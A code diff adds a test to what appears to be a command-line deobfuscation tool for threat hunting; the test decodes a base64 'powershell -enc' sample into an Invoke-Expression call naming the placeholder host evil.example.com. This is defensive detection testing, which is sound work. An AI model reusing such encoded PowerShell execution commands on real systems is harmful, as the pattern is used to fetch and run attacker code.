@@ -73,3 +73,15 @@ def test_accessor_unpacks() -> None:
     layers = frame.huntbook.unpack(columns="cmd")
     assert "http://evil.example.com" in " ".join(layers["text"])
     assert huntbook.unpack(f"x {encoded}").children
+
+
+def test_unpack_command(tmp_path: Path) -> None:
+    encoded = "SQBFAFgAIAAoACcAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAuAGMAbwBtACcAKQA="
+    result = runner.invoke(app, ["unpack", "-", "-f", "json"], input=f"powershell -enc {encoded}\n")
+    assert result.exit_code == 0, result.output
+    (layer,) = [json.loads(line) for line in result.output.splitlines()]
+    assert (layer["encoding"], layer["text"]) == ("base64", "IEX ('http://evil.example.com')")
+    tree = runner.invoke(app, ["unpack", "-"], input=f"x {encoded}")
+    assert "base64" in tree.output and "evil.example.com" in tree.output
+    missing = runner.invoke(app, ["unpack", str(tmp_path / "none.bin")])
+    assert missing.exit_code == 2 and "No such file" in missing.output
